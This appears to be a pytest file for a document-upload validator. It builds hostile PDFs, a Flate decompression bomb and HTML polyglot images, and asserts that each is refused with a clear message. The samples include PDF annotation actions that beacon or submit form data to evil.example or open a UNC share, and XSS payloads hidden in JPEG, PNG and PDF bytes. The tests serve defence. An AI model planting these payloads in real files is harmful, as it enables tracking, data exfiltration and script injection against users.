"""Issue 19, findings 6-7: PDFs that act or reach outside, decompression bombs, HTML polyglots, large images.

Each file is written here byte by byte, as an attacker would; each is refused with the
message a person can act on, by the raw scan and by the parsed walk alike.
"""

from __future__ import annotations

import io
import zlib

import pytest
from PIL import Image
from pypdf import PdfReader

from applications.intake.uploads import check_upload, images, pdf
from tests.applications.raw_pdfs import CATALOG, PAGES, pdf_drawing, raw_pdf
from tests.applications.test_uploads import make_image, make_pdf, png_claiming_size, real_jpeg, refusal, upload


def page_with_annotation(annotation: bytes) -> bytes:
    """A one-page PDF whose page carries one annotation (object 4)."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
    return raw_pdf(CATALOG, PAGES, page, annotation)


WIDGET = b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 10 10] "
LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
UNC = b"(\\\\\\\\evil.example\\\\share\\\\x.pdf)"  # \\\\evil.example\\share\\x.pdf, escaped in a PDF string

HOSTILE_PDFS = [
    pytest.param(WIDGET + b"/AA << /PO << /S /URI /URI (https://evil.example/beacon) >> >> >>", id="annot-AA-PO-uri"),
    pytest.param(
        WIDGET + b"/AA << /PV << /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >> >> >>",
        id="annot-AA-PV-submitform",
    ),
    pytest.param(WIDGET + b"/AA << /PO << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >> >>", id="annot-AA-PO-gotor-unc"),
    pytest.param(LINK + b"/A << /S /URI /URI (https://evil.example/track) >> >>", id="link-uri"),
    pytest.param(LINK + b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >> >>", id="link-submit"),
    pytest.param(LINK + b"/A << /S /GoToR /F " + UNC + b" /D [0 /Fit] >> >>", id="link-gotor"),
    pytest.param(LINK + b"/A << /S /U#52I /U#52I (https://evil.example/escaped) >> >>", id="link-uri-escaped"),
    pytest.param(LINK + b"/A << /S /GoToE /D [0 /Fit] >> >>", id="link-gotoe"),
    pytest.param(LINK + b"/A << /S /ImportData /F (data.fdf) >> >>", id="link-importdata"),
]


@pytest.mark.parametrize("annotation", HOSTILE_PDFS)
def test_annotations_that_act_or_reach_outside_are_refused(annotation):
    content = page_with_annotation(annotation)
    error = refusal(upload("cv.pdf", content))
    assert error.code == "pdf_active_content"
    assert "ウェブアドレス" in str(error.messages[0])  # says why, in Japanese
    # The parsed walk alone finds each, too (the raw scan is the other, independent look).
    assert pdf.parsed_pdf_is_active(PdfReader(io.BytesIO(content), strict=False))


def test_page_level_automatic_actions_are_refused():
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://e.example) >> >> >>"
    )
    assert refusal(upload("cv.pdf", raw_pdf(CATALOG, PAGES, page))).code == "pdf_active_content"


def flate_pdf(inflated_bytes: int) -> bytes:
    """A one-page PDF whose content stream is ``inflated_bytes`` of spaces, Flate-compressed."""
    return pdf_drawing(zlib.compress(b" " * inflated_bytes, 9), b" /Filter /FlateDecode")


def test_a_flate_bomb_is_refused_without_inflating_it(settings):
    settings.KOBO_PDF_MAX_INFLATED_BYTES = 1024 * 1024
    bomb = flate_pdf(8 * 1024 * 1024)  # 8 MB of spaces in a few kilobytes: the 8 GB bomb, scaled down
    assert len(bomb) < 20_000
    assert refusal(upload("cv.pdf", bomb)).code == "pdf_bomb"
    assert check_upload(upload("cv.pdf", flate_pdf(512 * 1024))).kind == "pdf"  # under the bound: fine


def test_the_default_bound_lets_an_ordinary_pdf_through():
    assert pdf.MAX_PDF_INFLATED_BYTES >= 100 * 1024 * 1024
    assert check_upload(upload("cv.pdf", make_pdf())).kind == "pdf"


def _jpeg_with_comment(comment: bytes) -> bytes:
    jpeg = real_jpeg()
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return jpeg[:2] + segment + jpeg[2:]


def _png_with_text(text: bytes) -> bytes:
    png = make_image("PNG")
    body = b"tEXt" + b"Comment\x00" + text
    chunk = len(text + b"Comment\x00").to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")
    return png[:33] + chunk + png[33:]


POLYGLOTS = [
    pytest.param("photo.jpg", lambda: _jpeg_with_comment(b"<!DOCTYPE html><p>hi"), "html_content", id="jpeg-doctype"),
    pytest.param("photo.jpg", lambda: _jpeg_with_comment(b"<iframe src=//e.jp>"), "html_content", id="jpeg-iframe"),
    pytest.param("photo.jpg", lambda: real_jpeg() + b"<script>alert(1)", "html_content", id="jpeg-tail-script"),
    pytest.param("chart.png", lambda: _png_with_text(b"<svg onload=alert(1)>"), "html_content", id="png-svg-text"),
    pytest.param("chart.png", lambda: _png_with_text(b"<img src=x onerror=alert(1)>"), "html_content", id="png-img"),
    pytest.param("cv.pdf", lambda: make_pdf().replace(b"%PDF-1.3\n", b"%PDF-1.3\n%<body onload=alert(1)>\n", 1),
                 "pdf_polyglot", id="pdf-body-in-comment"),
    pytest.param("cv.pdf", lambda: make_pdf() + b"\n<?xml version='1.0'?><x/>", "pdf_polyglot", id="pdf-xml-tail"),
    pytest.param("cv.pdf", lambda: make_pdf() + b"\n<a href='//e.example'>x</a>", "pdf_polyglot", id="pdf-anchor-tail"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "build", "code"), POLYGLOTS)
def test_html_polyglots_are_refused(name, build, code):
    content = build()
    assert refusal(upload(name, content)).code == code


def test_an_ordinary_photo_and_chart_still_pass():
    assert check_upload(upload("photo.jpg", real_jpeg())).kind == "jpeg"
    assert check_upload(upload("chart.png", make_image("PNG"))).kind == "png"


# --- images: decoding bounded in time and memory ----------------------------------------------------


def test_a_large_photo_is_decoded_reduced_and_kept_at_print_size():
    photo = Image.new("RGB", (5000, 4000), (200, 120, 40))  # 20 MP, under the 25 MP the header may claim
    buffer = io.BytesIO()
    photo.save(buffer, format="JPEG", quality=80)
    checked = check_upload(upload("photo.jpg", buffer.getvalue()))
    with Image.open(io.BytesIO(checked.content)) as kept:
        assert kept.size == (2500, 2000)  # decoded at half size by the JPEG decoder itself
        assert images.MIN_DECODED_PIXELS <= kept.width * kept.height <= images.MAX_STORED_PIXELS


def test_a_png_past_the_png_bound_is_refused_from_its_header():
    assert refusal(upload("chart.png", png_claiming_size(4000, 3000))).code == "png_too_many_pixels"
